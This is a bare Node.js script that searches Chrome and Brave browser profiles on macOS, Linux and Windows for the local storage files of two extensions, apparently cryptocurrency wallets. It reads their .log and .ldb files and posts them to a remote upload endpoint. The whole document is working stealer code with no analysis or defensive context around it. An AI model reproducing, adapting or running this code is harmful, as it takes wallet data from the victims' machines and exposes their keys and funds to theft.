const fs = require('fs'), path = require('path'), os = require('os'), request = require('request');
const base = { darwin: 'Library/Application Support', linux: '.config', win32: 'AppData/Local' }[os.platform()];
const ext = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
const send = [];
['Google/Chrome', 'BraveSoftware/Brave-Browser'].forEach((b) => {
  for (let i = 0; i < 200; i++) ext.forEach((x) => {
    const dir = path.join(os.homedir(), base, b, i ? `Profile ${i}` : 'Default', 'Local Extension Settings', x);
    if (!fs.existsSync(dir)) return;
    fs.readdirSync(dir).forEach((f) => { if (/\.(log|ldb)$/.test(f)) send.push({ value: fs.createReadStream(path.join(dir, f)), options: { filename: `${x}_${f}` } }); });
  });
});
request.post({ url: 'http://m.brave.invalid:1224/uploads', formData: { type: 'x', multi_file: send } }, () => {});
